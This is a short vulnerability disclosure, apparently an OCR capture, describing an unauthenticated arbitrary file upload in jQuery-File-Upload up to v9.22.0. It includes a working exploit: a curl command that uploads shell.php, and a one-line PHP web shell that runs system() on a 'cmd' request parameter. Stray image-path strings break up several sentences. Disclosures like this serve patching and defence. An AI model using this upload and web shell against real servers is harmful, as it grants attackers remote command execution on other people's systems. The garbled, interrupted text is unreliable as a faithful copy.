Title:jQuery-File-Upload <= v9.22.0 unauthenticated arbitrary file upload vulnerability
The code in https://github.com/blueimp/jQuery-File-Upload/blob/master/server/php/UploadHandler.php doesn't require any validation to upload files to theserver.  It also doesn't exclude file types.  This allows for remote code execution.

The back end PHP code under server/php/ is used to handle requests from the javascript front end.  This codewill allow any file type to be uploaded including executable files with .php extensions.  The javascript front end sends POST requests to index.php that inturn loads the UploadHandler class from UploadHandler.php.  Files are then written to the server/php/files directory.

$ curl   -F "files=@shell.php" http://localhost/jQuery-File-Upload-9.22.0/server/php/index.php

Where shell.php is:

<?php$cmd=$_GET['cmd']; system($cmd);?>